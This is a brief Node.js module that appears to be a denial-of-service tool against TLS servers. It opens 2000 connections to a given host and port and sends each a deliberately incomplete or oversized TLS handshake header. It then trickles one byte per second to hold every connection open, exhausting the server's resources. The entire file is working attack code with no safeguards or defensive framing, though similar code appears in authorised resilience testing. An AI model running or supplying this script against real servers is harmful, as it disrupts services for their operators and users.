// Handshakes of TLS that are begun and left: a record that is never whole, one that says it is larger than any, and one a byte at a time.
'use strict'
const net = require('node:net')
const begins = [Buffer.from('1603010200010001fc0303', 'hex'), Buffer.from('160301ffff0100ffff0303', 'hex'), Buffer.from('16', 'hex')]
module.exports = (port, host) => new Promise(() => {
  for (let idx = 0; idx < 2000; idx += 1) {
    const socket = net.connect(port, host, () => { socket.write(begins[idx % 3]); setInterval(() => socket.write(Buffer.from([3])), 1000) })
    socket.on('error', () => 0).resume()
  }
})
